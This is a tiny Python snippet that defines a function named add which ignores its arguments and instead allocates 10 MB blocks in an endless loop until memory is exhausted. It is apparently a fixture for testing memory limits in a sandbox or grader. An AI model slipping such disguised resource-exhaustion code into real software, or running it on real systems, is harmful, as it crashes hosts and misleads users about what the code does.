def add(a, b):
    eaten = []
    while True:
        eaten.append(bytearray(10_000_000))
